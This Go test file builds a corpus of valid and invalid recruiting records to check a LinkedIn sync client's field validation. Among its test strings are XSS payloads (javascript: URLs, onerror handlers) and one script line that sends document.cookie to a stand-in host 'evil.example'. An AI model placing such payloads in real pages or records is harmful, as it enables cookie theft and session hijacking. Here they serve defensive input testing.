package badinput

import (
	"fmt"
	"strings"
	"time"

	"github.com/rscgo/rscgo/rsc"
	rscsync "github.com/rscgo/rscgo/sync"
)

// now is the fixed time of every run (server, client and engine clocks).
var now = time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)

const org = "urn:li:organization:4242"

// Parents of the rows' notes, feedback and stages: good records.
const (
	baseJob   = "J-base"
	baseCand  = "C-base"
	baseApp   = "A-base"
	stagesApp = "A-stages"
)

var (
	megabyte  = strings.Repeat("A", 1<<20)
	ms        = func(t time.Time) rsc.EpochMillis { return rsc.Millis(t) }
	created   = ms(now.Add(-48 * time.Hour))
	modified  = ms(now.Add(-24 * time.Hour))
	seconds   = rsc.EpochMillis(now.Add(-24 * time.Hour).Unix())
	future    = ms(now.Add(30 * 24 * time.Hour))
	longDescr = strings.Repeat("Build and run the systems that power our hiring platform. ", 3)
)

// row is one corpus entry: a record built from a good baseline of its kind
// by one mutator. Bad rows (good false) must be refused with a per-record
// error naming the key, field and rule; good rows are hostile but valid and
// must reach LinkedIn exactly.
type row struct {
	name string
	// rule ties the row to docs/linkedin-api.md: "{section} {what}", e.g.
	// "7.2 candidate emailAddresses X@X.X".
	rule string

	// Exactly one mutator is set.
	job   func(*rsc.JobPosting)
	cand  func(*rsc.Candidate)
	app   func(*rsc.Application)
	stage func(*rsc.Stage)
	cnote func(*rsc.Note)
	anote func(*rsc.Note)
	fb    func(*rsc.InterviewFeedback)

	good  bool
	field string // bad rows: the field the error must name
	why   string // bad rows: a (case-insensitive) part of the rule text

	// knownGap: the rules call the record invalid but nothing rejects it,
	// or the error is unclear, or (good rows) a valid record is refused.
	// The test logs it instead of failing, and fails once it is fixed.
	knownGap string
	// dryGap: the real run rejects the record but the dry run does not.
	dryGap string
	// abortsRun: a known gap so bad that the record makes the whole run
	// fail; it is kept out of the mixed corpus and run alone.
	abortsRun bool
	// alone: the row cannot share a SliceSource with the others (its key
	// would collide); it is run alone.
	alone bool
}

func (r *row) kind() rscsync.EntityKind {
	switch {
	case r.job != nil:
		return rscsync.KindJob
	case r.cand != nil:
		return rscsync.KindCandidate
	case r.app != nil:
		return rscsync.KindApplication
	case r.stage != nil:
		return rscsync.KindStage
	case r.cnote != nil:
		return rscsync.KindCandidateNote
	case r.anote != nil:
		return rscsync.KindApplicationNote
	case r.fb != nil:
		return rscsync.KindInterviewFeedback
	}
	panic("row " + r.name + " has no mutator")
}

func baseJobPosting(id string) rsc.JobPosting {
	return rsc.JobPosting{ExternalJobPostingID: id, IntegrationContext: org, CompanyApplyURL: "https://ats.example/apply/1",
		Title: "Go Engineer", Description: longDescr, ListedAt: modified, Location: "London, England, United Kingdom", PosterEmail: "recruiter@example.com",
		Availability: rsc.AvailabilityPrivate, WorkplaceTypes: []string{"Remote"}, EmploymentStatus: "FULL_TIME"}
}

func baseCandidate(id string) rsc.Candidate {
	return rsc.Candidate{Key: rsc.CandidateKey{IntegrationContext: org, CandidateID: id},
		FirstName: "Ann", LastName: "Lee", EmailAddresses: []string{"ann@example.com"},
		PhoneNumbers:       []rsc.PhoneNumber{{Number: "555-555-5555"}},
		Addresses:          []rsc.Address{{City: "Quahog", GeographicArea: "RI", GeographicAreaType: "STATE", Country: "us"}},
		ExternalProfileURL: "https://ats.example/c/1", CreatedAt: created, LastModifiedAt: modified}
}

func baseApplication(id string) rsc.Application {
	return rsc.Application{Key: rsc.ApplicationKey{IntegrationContext: org, ApplicationID: id},
		CandidateID: baseCand, JobPostingID: baseJob, JobPostingName: "Go Engineer", CandidateEmail: "ann@example.com",
		FirstName: "Ann", LastName: "Lee", Source: "Referral", CreatedAt: created, LastModifiedAt: modified}
}

func baseStage(id string) rsc.Stage {
	return rsc.Stage{ID: id, Stage: "Phone Screen", CreatedAt: created}
}

func baseNote(id string) rsc.Note {
	return rsc.Note{ID: id, Note: "Called; keen on the role.", Author: &rsc.Actor{FirstName: "Angela", LastName: "Smith"}, CreatedAt: created}
}

func baseFeedback(id string) rsc.InterviewFeedback {
	return rsc.InterviewFeedback{ID: id, Interviewer: &rsc.Actor{FirstName: "Ivan", LastName: "Petrov"},
		Evaluations: []rsc.Evaluation{{Attribute: "Verbal Communication", Result: "4/5"}}, Feedback: "Strong.",
		InterviewType: "PHONE_SCREEN", CreatedAt: created}
}

// restliIDs are ids made of every character Rest.li treats specially, plus
// spaces and unicode (docs/linkedin-api.md §3.2).
var restliIDs = []string{"a(b)c", "x,y", "k:v", "it's", "100%", "with space", "a=b&c=d", "ünï©ødé-名前", "(x:1,y:List(2))", "%28raw%29"}

// corpus is the table. Keep every rule of docs/linkedin-api.md §7 covered; a rule the
// SDK types cannot express (alternateLocations, addresses/phoneNumbers
// present) is listed in unrepresentable instead.
func corpus() []row {
	rows := []row{
		// §7.1 jobs.
		{name: "job id empty", rule: "7.1 job externalJobPostingId required", job: func(j *rsc.JobPosting) { j.ExternalJobPostingID = "" }, field: "externalJobPostingId", why: "required"},
		{name: "job id 201 chars", rule: "7.1 job externalJobPostingId max 200", job: func(j *rsc.JobPosting) { j.ExternalJobPostingID = strings.Repeat("j", 201) }, field: "externalJobPostingId", why: "at most 200"},
		{name: "job no integration context", rule: "7.1 job integrationContext required (RSC job)", job: func(j *rsc.JobPosting) { j.IntegrationContext = "" }, field: "integrationContext", why: "required"},
		// RSC's required-fields page requires integrationContext on synced
		// jobs: companyName does not stand in for it on a
		// PRIVATE_TO_ATS_INTEGRATION job.
		{name: "job RSC named by companyName", rule: "7.1 job integrationContext required (RSC job, companyName instead)", job: func(j *rsc.JobPosting) { j.IntegrationContext, j.CompanyName = "", "Acme" }, field: "integrationContext", why: "required"},
		{name: "job company URN", rule: "7.1 job integrationContext urn:li:organization:{id}", job: func(j *rsc.JobPosting) { j.IntegrationContext = "urn:li:company:4242" }, field: "integrationContext", why: "urn:li:organization:"},
		{name: "job apply url not a URL", rule: "7.1 job companyApplyUrl valid URL", job: func(j *rsc.JobPosting) { j.CompanyApplyURL = "not a url" }, field: "companyApplyUrl", why: "URL"},
		{name: "job apply url javascript", rule: "7.1 job companyApplyUrl valid URL", job: func(j *rsc.JobPosting) { j.CompanyApplyURL = "javascript:alert(1)" }, field: "companyApplyUrl", why: "URL"},
		{name: "job apply url missing", rule: "7.1 job companyApplyUrl required", job: func(j *rsc.JobPosting) { j.CompanyApplyURL = "" }, field: "companyApplyUrl", why: "required"},
		{name: "job title empty", rule: "7.1 job title required", job: func(j *rsc.JobPosting) { j.Title = "" }, field: "title", why: "required"},
		{name: "job title 201 chars", rule: "7.1 job title max 200", job: func(j *rsc.JobPosting) { j.Title = strings.Repeat("t", 201) }, field: "title", why: "at most 200"},
		{name: "job description 99 chars", rule: "7.1 job description 100-25000 chars", job: func(j *rsc.JobPosting) { j.Description = strings.Repeat("d", 99) }, field: "description", why: "at least 100"},
		{name: "job description 25001 chars", rule: "7.1 job description 100-25000 chars", job: func(j *rsc.JobPosting) { j.Description = strings.Repeat("d", 25001) }, field: "description", why: "at most 25000"},
		{name: "job description 1 MB", rule: "7.1 job description 100-25000 chars (1 MB)", job: func(j *rsc.JobPosting) { j.Description = megabyte }, field: "description", why: "at most 25000"},
		{name: "job description NUL", rule: "7.1 job description text (NUL)", job: func(j *rsc.JobPosting) { j.Description = longDescr + "\x00" }, field: "description", why: "control character"},
		{name: "job listedAt missing", rule: "7.1 job listedAt required", job: func(j *rsc.JobPosting) { j.ListedAt = 0 }, field: "listedAt", why: "> 0"},
		{name: "job listedAt seconds", rule: "7.1 job listedAt epoch ms (not seconds)", job: func(j *rsc.JobPosting) { j.ListedAt = seconds }, field: "listedAt", why: "seconds"},
		{name: "job listedAt future", rule: "7.1 job listedAt not in the future", job: func(j *rsc.JobPosting) { j.ListedAt = future }, field: "listedAt", why: "future"},
		{name: "job location empty", rule: "7.1 job location required", job: func(j *rsc.JobPosting) { j.Location = "" }, field: "location", why: "required"},
		{name: "job availability empty", rule: "7.1 job availability required enum", job: func(j *rsc.JobPosting) { j.Availability = "" }, field: "availability", why: "one of"},
		{name: "job availability bad", rule: "7.1 job availability enum", job: func(j *rsc.JobPosting) { j.Availability = "PRIVATE" }, field: "availability", why: "one of"},
		{name: "job 4 categories", rule: "7.1 job categories max 3", job: func(j *rsc.JobPosting) { j.Categories = []string{"a", "b", "c", "d"} }, field: "categories", why: "at most 3"},
		{name: "job skills 4001 chars", rule: "7.1 job skillsDescription max 4000", job: func(j *rsc.JobPosting) { j.SkillsDescription = strings.Repeat("s", 4001) }, field: "skillsDescription", why: "at most 4000"},
		{name: "job two workplace types", rule: "7.1 job workplaceTypes exactly one", job: func(j *rsc.JobPosting) { j.WorkplaceTypes = []string{"Remote", "Hybrid"} }, field: "workplaceTypes", why: "exactly one"},
		{name: "job workplace type bad", rule: "7.1 job workplaceTypes enum", job: func(j *rsc.JobPosting) { j.WorkplaceTypes = []string{"Moon"} }, field: "workplaceTypes", why: "one of"},
		// LinkedIn maps an employmentStatus or experienceLevel it does not
		// list to the closest one it does: neither is refused.
		{name: "job employment status unlisted", rule: "7.1 job employmentStatus mapped by LinkedIn", good: true, job: func(j *rsc.JobPosting) { j.EmploymentStatus = "FULLTIME" }},
		{name: "job experience level unlisted", rule: "7.1 job experienceLevel mapped by LinkedIn", good: true, job: func(j *rsc.JobPosting) { j.ExperienceLevel = "SENIOR" }},
		{name: "job poster email missing", rule: "7.1 job posterEmail required", job: func(j *rsc.JobPosting) { j.PosterEmail = "" }, field: "posterEmail", why: "required"},
		{name: "job poster email malformed", rule: "7.1 job posterEmail X@X.X", job: func(j *rsc.JobPosting) { j.PosterEmail = "recruiter.example.com" }, field: "posterEmail", why: "X@X.X"},
		{name: "job expireAt seconds", rule: "7.1 job expireAt epoch ms", job: func(j *rsc.JobPosting) { j.ExpireAt = rsc.EpochMillis(now.Add(90 * 24 * time.Hour).Unix()) }, field: "expireAt", why: "seconds"},
		{name: "job industry not a URN", rule: "7.1 job industries urn:li:industry:{id}", job: func(j *rsc.JobPosting) { j.Industries = []string{"Software"} }, field: "industries", why: "urn:li:industry:"},
		{name: "job compensation period bad", rule: "7.1 job compensation period/type enums", job: func(j *rsc.JobPosting) {
			j.Compensation = []byte(`{"compensations":[{"value":{"exactAmount":{"amount":"100","currencyCode":"USD"}},"period":"FORTNIGHTLY","type":"BASE_SALARY"}]}`)
		}, field: "compensation", why: "period"},
		{name: "job compensation amount number", rule: "7.1 job compensation amount is a string", job: func(j *rsc.JobPosting) {
			j.Compensation = []byte(`{"compensations":[{"value":{"exactAmount":{"amount":100,"currencyCode":"USD"}},"period":"YEARLY","type":"BASE_SALARY"}]}`)
		}, field: "compensation.compensations[0].value.exactAmount.amount", why: "string"},
		{name: "job compensation invalid JSON", rule: "7.1 job compensation shape", job: func(j *rsc.JobPosting) { j.Compensation = []byte(`{"compensations":`) }, field: "compensation", why: "JSON"},
		{name: "job description script", rule: "7.1 job description HTML (other tags stripped by LinkedIn)", good: true, job: func(j *rsc.JobPosting) {
			j.Description = "<p>We <b>ship</b>.</p><script>alert('x')</script><img src=x onerror=alert(1)>" + longDescr
		}},
		{name: "job unicode title", rule: "7.1 job title unicode", good: true, job: func(j *rsc.JobPosting) { j.Title = "Ingénieur·e Go — 東京 🚀" }},

		// §7.2 candidates.
		{name: "cand id empty", rule: "3.1 candidate atsCandidateId required", cand: func(c *rsc.Candidate) { c.Key.CandidateID = "" }, field: "atsCandidateId", why: "empty"},
		{name: "cand id blank", rule: "3.1 candidate atsCandidateId required (blank)", cand: func(c *rsc.Candidate) { c.Key.CandidateID = "   " }, field: "atsCandidateId", why: "blank"},
		{name: "cand context not a URN", rule: "3.1 candidate integrationContext urn:li:organization:{id}", cand: func(c *rsc.Candidate) { c.Key.IntegrationContext = "organization:4242" }, field: "integrationContext", why: "URN"},
		{name: "cand context company URN", rule: "3.1 candidate integrationContext urn:li:organization:{id}", cand: func(c *rsc.Candidate) { c.Key.IntegrationContext = "urn:li:company:4242" }, field: "integrationContext", why: "URN"},
		{name: "cand context trailing space", rule: "3.1 candidate integrationContext urn:li:organization:{id}", cand: func(c *rsc.Candidate) { c.Key.IntegrationContext = org + " " }, field: "integrationContext", why: "URN"},
		{name: "app context no id", rule: "3.1 application integrationContext urn:li:organization:{id}", app: func(a *rsc.Application) { a.Key.IntegrationContext = "urn:li:organization:" }, field: "integrationContext", why: "URN"},
		{name: "cand firstName empty", rule: "7.2 candidate firstName required", cand: func(c *rsc.Candidate) { c.FirstName = "" }, field: "firstName", why: "required"},
		// "min length 1" counts white space: a blank firstName is valid.
		{name: "cand firstName blank", rule: "7.2 candidate firstName min length 1 (white space counts)", good: true, cand: func(c *rsc.Candidate) { c.FirstName = " \t " }},
		{name: "cand firstName 1 MB", rule: "7.2 candidate firstName length (1 MB)", cand: func(c *rsc.Candidate) { c.FirstName = megabyte }, field: "firstName", why: "at most"},
		{name: "cand firstName NUL", rule: "7.2 candidate firstName text (NUL)", cand: func(c *rsc.Candidate) { c.FirstName = "Ann\x00" }, field: "firstName", why: "control character"},
		{name: "cand lastName invalid UTF-8", rule: "7.2 candidate lastName text (invalid UTF-8)", cand: func(c *rsc.Candidate) { c.LastName = "Le\xffe" }, field: "lastName", why: "UTF-8"},
		{name: "cand title ANSI escape", rule: "7.2 candidate currentJobTitle text (control characters)", cand: func(c *rsc.Candidate) { c.CurrentJobTitle = "\x1b[31mCTO\x1b[0m" }, field: "currentJobTitle", why: "control character"},
		{name: "cand company DEL", rule: "7.2 candidate currentCompanyName text (DEL)", cand: func(c *rsc.Candidate) { c.CurrentCompanyName = "Acme\x7f" }, field: "currentCompanyName", why: "control character"},
		{name: "cand email no dot", rule: "7.2 candidate emailAddresses X@X.X", cand: func(c *rsc.Candidate) { c.EmailAddresses = []string{"ann@example"} }, field: "emailAddresses", why: "X@X.X"},
		{name: "cand email space", rule: "7.2 candidate emailAddresses X@X.X", cand: func(c *rsc.Candidate) { c.EmailAddresses = []string{"ann@example.com", "ann lee@example.com"} }, field: "emailAddresses", why: "X@X.X"},
		{name: "cand email two @", rule: "7.2 candidate emailAddresses X@X.X", cand: func(c *rsc.Candidate) { c.EmailAddresses = []string{"a@b@example.com"} }, field: "emailAddresses", why: "X@X.X"},
		{name: "cand email empty string", rule: "7.2 candidate emailAddresses X@X.X (empty)", cand: func(c *rsc.Candidate) { c.EmailAddresses = []string{""} }, field: "emailAddresses", why: "required"},
		{name: "cand email NUL", rule: "7.2 candidate emailAddresses X@X.X (NUL)", cand: func(c *rsc.Candidate) { c.EmailAddresses = []string{"ann\x00@example.com"} }, field: "emailAddresses", why: "control character"},
		{name: "cand no email and no person", rule: "7.2 candidate emailAddresses required if no person URN", cand: func(c *rsc.Candidate) { c.EmailAddresses = nil }, field: "emailAddresses", why: "required",
			knownGap: "by choice, nothing enforces docs/linkedin-api.md §7.2 \"emailAddresses: Yes, if no Person URN\": the person URN is attached separately (Candidates.AttachPerson), " +
				"so the client cannot tell; rsc.Candidate.EmailAddresses documents it"},
		{name: "cand profile url missing", rule: "7.2 candidate externalProfileUrl required", cand: func(c *rsc.Candidate) { c.ExternalProfileURL = "" }, field: "externalProfileUrl", why: "required"},
		{name: "cand profile url relative", rule: "7.2 candidate externalProfileUrl URL", cand: func(c *rsc.Candidate) { c.ExternalProfileURL = "/c/1" }, field: "externalProfileUrl", why: "URL"},
		{name: "cand linkedin url bad", rule: "7.2 candidate linkedInProfileUrl URL", cand: func(c *rsc.Candidate) { c.LinkedInProfileURL = "linkedin.com/in/ann" }, field: "linkedInProfileUrl", why: "URL"},
		{name: "cand created zero", rule: "7.2 candidate atsCreatedAt > 0", cand: func(c *rsc.Candidate) { c.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
		{name: "cand created negative", rule: "7.2 candidate atsCreatedAt > 0", cand: func(c *rsc.Candidate) { c.CreatedAt, c.LastModifiedAt = -5, modified }, field: "atsCreatedAt", why: "> 0"},
		{name: "cand created seconds", rule: "7.2 candidate atsCreatedAt epoch ms (not seconds)", cand: func(c *rsc.Candidate) { c.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
		{name: "cand modified zero", rule: "7.2 candidate atsLastModifiedAt > 0", cand: func(c *rsc.Candidate) { c.LastModifiedAt = 0 }, field: "atsLastModifiedAt", why: "> 0"},
		{name: "cand modified before created", rule: "7.2 candidate atsLastModifiedAt >= atsCreatedAt", cand: func(c *rsc.Candidate) { c.CreatedAt, c.LastModifiedAt = modified, created }, field: "atsLastModifiedAt", why: ">= atsCreatedAt"},
		// LinkedIn's rules for atsCreatedAt/atsLastModifiedAt are > 0 and
		// modified >= created; only a job's listedAt must not be in the
		// future, so records ahead of the clock are valid.
		{name: "cand modified future", rule: "7.2 candidate atsLastModifiedAt may be in the future", good: true, cand: func(c *rsc.Candidate) { c.LastModifiedAt = future }},
		{name: "cand area type bad", rule: "7.2 candidate addresses geographicAreaType STATE|PROVINCE", cand: func(c *rsc.Candidate) { c.Addresses[0].GeographicAreaType = "COUNTY" }, field: "geographicAreaType", why: "one of"},
		{name: "cand phone empty number", rule: "7.2 candidate phoneNumbers number", cand: func(c *rsc.Candidate) { c.PhoneNumbers = []rsc.PhoneNumber{{Extension: "12"}} }, field: "phoneNumbers[0].number", why: "required"},
		{name: "cand unicode and HTML names", rule: "7.2 candidate names unicode", good: true, cand: func(c *rsc.Candidate) {
			c.FirstName, c.LastName, c.MiddleInitial = "Zoë <b>", "O'Brien-Łukasiewicz 山田", "É"
			c.CurrentJobTitle = "<script>alert(1)</script>"
			c.CurrentCompanyName = "\u202eevil\u202c Corp" // bidi override: not a control character
		}},
		{name: "cand empty lists", rule: "7.2 candidate addresses/phoneNumbers required, may be []", good: true, cand: func(c *rsc.Candidate) { c.Addresses, c.PhoneNumbers = nil, nil }},
		{name: "cand long names", rule: "7.2 candidate names and title (no length limit documented)", good: true, cand: func(c *rsc.Candidate) {
			c.LastName, c.CurrentJobTitle, c.Addresses[0].City = strings.Repeat("l", 256), strings.Repeat("t", 1000), strings.Repeat("c", 256)
			c.PhoneNumbers[0].Number = strings.Repeat("5", 65)
		}},

		// §7.4 applications.
		{name: "app id empty", rule: "3.1 application atsJobApplicationId required", app: func(a *rsc.Application) { a.Key.ApplicationID = "" }, field: "atsJobApplicationId", why: "empty"},
		{name: "app context not a URN", rule: "3.1 application integrationContext urn:li:organization:{id}", app: func(a *rsc.Application) { a.Key.IntegrationContext = "4242" }, field: "integrationContext", why: "URN"},
		{name: "app job id empty", rule: "7.4 application atsJobPostingId min length 1", app: func(a *rsc.Application) { a.JobPostingID = "" }, field: "atsJobPostingId", why: "required"},
		{name: "app job name empty", rule: "7.4 application atsJobPostingName min length 1", app: func(a *rsc.Application) { a.JobPostingName = "" }, field: "atsJobPostingName", why: "required"},
		{name: "app firstName empty", rule: "7.4 application firstName min length 1", app: func(a *rsc.Application) { a.FirstName = "" }, field: "firstName", why: "required"},
		{name: "app email bad", rule: "7.4 application candidateEmail X@X.X", app: func(a *rsc.Application) { a.CandidateEmail = "ann(at)example.com" }, field: "candidateEmail", why: "X@X.X"},
		{name: "app email empty", rule: "7.4 application candidateEmail optional (unconfirmed; our choice)", good: true, app: func(a *rsc.Application) { a.CandidateEmail = "" }},
		{name: "app created zero", rule: "7.4 application atsCreatedAt > 0", app: func(a *rsc.Application) { a.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
		{name: "app created seconds", rule: "7.4 application atsCreatedAt epoch ms (not seconds)", app: func(a *rsc.Application) { a.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
		{name: "app modified before created", rule: "7.4 application atsLastModifiedAt >= atsCreatedAt", app: func(a *rsc.Application) { a.CreatedAt, a.LastModifiedAt = modified, created }, field: "atsLastModifiedAt", why: ">= atsCreatedAt"},
		{name: "app modified future", rule: "7.4 application atsLastModifiedAt may be in the future (no such rule)", good: true, app: func(a *rsc.Application) { a.LastModifiedAt = future }},
		{name: "app disposition 1 MB", rule: "7.4 application dispositionReason text (1 MB)", app: func(a *rsc.Application) { a.DispositionReason = megabyte }, field: "dispositionReason", why: "at most"},
		{name: "app source NUL", rule: "7.4 application source text (NUL)", app: func(a *rsc.Application) { a.Source = "Referral\x00" }, field: "source", why: "control character"},
		{name: "app empty disposition", rule: "7.4 application full replace (empty strings sent)", good: true, app: func(a *rsc.Application) { a.DispositionReason, a.Source = "", "" }},

		// §7.6 stages (all on application A-stages).
		{name: "stage id empty", rule: "3.1 stage id required", stage: func(s *rsc.Stage) { s.ID = "" }, field: "id", why: "required"},
		{name: "stage empty", rule: "7.6 stage min length 1", stage: func(s *rsc.Stage) { s.Stage = "" }, field: "stage", why: "at least 1"},
		{name: "stage Not Available", rule: "7.6 stage != \"Not Available\"", stage: func(s *rsc.Stage) { s.Stage = "Not Available" }, field: "stage", why: "Not Available"},
		{name: "stage created zero", rule: "7.6 stage atsCreatedAt > 0", stage: func(s *rsc.Stage) { s.CreatedAt = 0 }, field: "atsCreatedAt", why: "> 0"},
		{name: "stage created seconds", rule: "7.6 stage atsCreatedAt epoch ms (not seconds)", stage: func(s *rsc.Stage) { s.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
		{name: "stage created future", rule: "7.6 stage atsCreatedAt may be in the future (no such rule)", good: true, stage: func(s *rsc.Stage) { s.CreatedAt = future }},
		{name: "stage 1 MB", rule: "7.6 stage text (1 MB)", stage: func(s *rsc.Stage) { s.Stage = megabyte }, field: "stage", why: "at most"},
		{name: "stage NUL", rule: "7.6 stage text (NUL)", stage: func(s *rsc.Stage) { s.Stage = "Hired\x00" }, field: "stage", why: "control character"},
		{name: "stage unicode", rule: "7.6 stage free text", good: true, stage: func(s *rsc.Stage) { s.Stage = "Offre acceptée ✅ (final, 100%)" }},
		{name: "stage 256 chars", rule: "7.6 stage free text (no length limit documented)", good: true, stage: func(s *rsc.Stage) { s.Stage = strings.Repeat("s", 256) }},

		// §7.3 candidate notes (on candidate C-base).
		{name: "cnote id empty", rule: "3.1 candidate note id required", cnote: func(n *rsc.Note) { n.ID = "" }, field: "id", why: "required", alone: true},
		{name: "cnote 1 MB", rule: "7.3 candidate note text (1 MB)", cnote: func(n *rsc.Note) { n.Note = megabyte }, field: "note", why: "at most"},
		{name: "cnote invalid UTF-8", rule: "7.3 candidate note text (invalid UTF-8)", cnote: func(n *rsc.Note) { n.Note = "caf\xe9" }, field: "note", why: "UTF-8"},
		{name: "cnote NUL", rule: "7.3 candidate note text (NUL)", cnote: func(n *rsc.Note) { n.Note = "a\x00b" }, field: "note", why: "control character"},
		{name: "cnote author no last name", rule: "7.3 candidate note author lastName required", cnote: func(n *rsc.Note) { n.Author.LastName = "" }, field: "author.lastName", why: "required"},
		{name: "cnote created seconds", rule: "7.3 candidate note atsCreatedAt epoch ms (not seconds)", cnote: func(n *rsc.Note) { n.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
		{name: "cnote created future", rule: "7.3 candidate note atsCreatedAt may be in the future (no such rule)", good: true, cnote: func(n *rsc.Note) { n.CreatedAt = future }},
		{name: "cnote script", rule: "7.3 candidate note free text (HTML/script)", good: true, cnote: func(n *rsc.Note) {
			n.Note = `<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)> "quoted" & 'single' \ backslash`
		}},
		{name: "cnote multiline unicode", rule: "7.3 candidate note free text (unicode, newlines)", good: true, cnote: func(n *rsc.Note) { n.Note = "Línea 1\r\nLigne 2\t🙂\n第三行" }},
		{name: "cnote no author", rule: "7.3 candidate note author optional", good: true, cnote: func(n *rsc.Note) { n.Author = nil }},
		{name: "cnote 40000 chars", rule: "7.3 candidate note free text (no length limit documented)", good: true, cnote: func(n *rsc.Note) { n.Note = strings.Repeat("n", 40000) }},

		// §7.5 application notes and interview feedback (on application A-base).
		{name: "anote id empty", rule: "3.1 application note id required", anote: func(n *rsc.Note) { n.ID = "" }, field: "id", why: "required", alone: true},
		{name: "anote author no first name", rule: "7.5 application note author firstName required", anote: func(n *rsc.Note) { n.Author.FirstName = "" }, field: "author.firstName", why: "required"},
		{name: "anote script", rule: "7.5 application note free text (HTML/script)", good: true, anote: func(n *rsc.Note) { n.Note = "<iframe src=javascript:alert(1)></iframe>" }},
		{name: "fb id empty", rule: "3.1 interview feedback id required", fb: func(f *rsc.InterviewFeedback) { f.ID = "" }, field: "id", why: "required"},
		{name: "fb type bad", rule: "7.5 interview feedback interviewType PHONE_SCREEN|ONSITE", fb: func(f *rsc.InterviewFeedback) { f.InterviewType = "VIDEO" }, field: "interviewType", why: "one of"},
		{name: "fb created seconds", rule: "7.5 interview feedback atsCreatedAt epoch ms (not seconds)", fb: func(f *rsc.InterviewFeedback) { f.CreatedAt = seconds }, field: "atsCreatedAt", why: "seconds"},
		{name: "fb text 1 MB", rule: "7.5 interview feedback text (1 MB)", fb: func(f *rsc.InterviewFeedback) { f.Feedback = megabyte }, field: "feedback", why: "at most"},
		{name: "fb evaluation no attribute", rule: "7.5 interview feedback evaluations attribute", fb: func(f *rsc.InterviewFeedback) { f.Evaluations[0].Attribute = "" }, field: "evaluations[0].attribute", why: "required"},
		{name: "fb unicode", rule: "7.5 interview feedback free text (unicode)", good: true, fb: func(f *rsc.InterviewFeedback) { f.Feedback = "Très bien — 5/5 ★"; f.InterviewType = "ONSITE" }},
	}
	// §3.2: ids with Rest.li-special characters, as the key of every kind.
	for _, id := range restliIDs {
		rule := "3.2 key escaping " + fmt.Sprintf("%q", id)
		rows = append(rows,
			row{name: "job id " + id, rule: rule, good: true, job: func(j *rsc.JobPosting) { j.ExternalJobPostingID = "J" + id }},
			row{name: "cand id " + id, rule: rule, good: true, cand: func(c *rsc.Candidate) { c.Key.CandidateID = "C" + id }},
			row{name: "app id " + id, rule: rule, good: true, app: func(a *rsc.Application) { a.Key.ApplicationID = "A" + id }},
			row{name: "stage id " + id, rule: rule, good: true, stage: func(s *rsc.Stage) { s.ID = "S" + id }},
			row{name: "cnote id " + id, rule: rule, good: true, cnote: func(n *rsc.Note) { n.ID = "N" + id }},
			row{name: "anote id " + id, rule: rule, good: true, anote: func(n *rsc.Note) { n.ID = "AN" + id }},
			row{name: "fb id " + id, rule: rule, good: true, fb: func(f *rsc.InterviewFeedback) { f.ID = "F" + id }})
	}
	return rows
}

// unrepresentable lists docs/linkedin-api.md §7 rules the SDK's types make impossible
// to break, so the corpus has no row for them.
var unrepresentable = map[string]string{
	"7.1 job jobPostingOperationType enum":          "set by the sync engine, never by the Source",
	"7.1 job alternateLocations max 7":              "rsc.JobPosting has no alternateLocations (not supported for RSC)",
	"7.2 candidate addresses/phoneNumbers required": "rsc.Candidate.Upsert always sends [] for nil (row \"cand empty lists\" checks it)",
	"5 batches of at most 100 records":              "the engine chunks; TestCorpusSync sends 110 extra candidates so batches split mid-corpus",
	"5 no duplicate externalJobPostingId per call":  "SliceSource keys by id; TestDuplicateKeysInOneBatch covers it through the client",
}
